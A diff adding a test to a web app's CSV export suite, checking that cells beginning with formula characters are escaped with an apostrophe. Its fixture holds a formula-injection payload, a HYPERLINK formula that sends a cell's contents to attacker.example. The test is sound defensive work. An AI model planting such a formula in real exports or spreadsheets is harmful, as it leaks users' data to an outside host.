@@ -108,3 +108,18 @@ def test_bad_exports_are_refused_with_a_message(client, home_page, query, status
 def test_an_unknown_format_is_not_found(client, compared_pages):
     response = client.get(f"/en/compare/export/pdf/?ids={compared_pages['danish'].pk}")
     assert response.status_code == 404
+
+
+def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(client, sections):
+    from knowledge.models import ProgrammePage
+
+    from .pages import add_page
+
+    title = '=HYPERLINK("http://attacker.example/?"&A1,"Klik")'
+    page = add_page(
+        sections["programmes"]["DK"],
+        ProgrammePage(title_da=title, slug_da="formel", summary_da="@SUM(1+1)", country="DK"),
+    )
+    rows = read_csv(client.get(f"/da/compare/export/csv/?ids={page.pk}"))
+    assert rows[0][1] == "'" + title
+    assert ["'@SUM(1+1)"] in [row[1:] for row in rows]
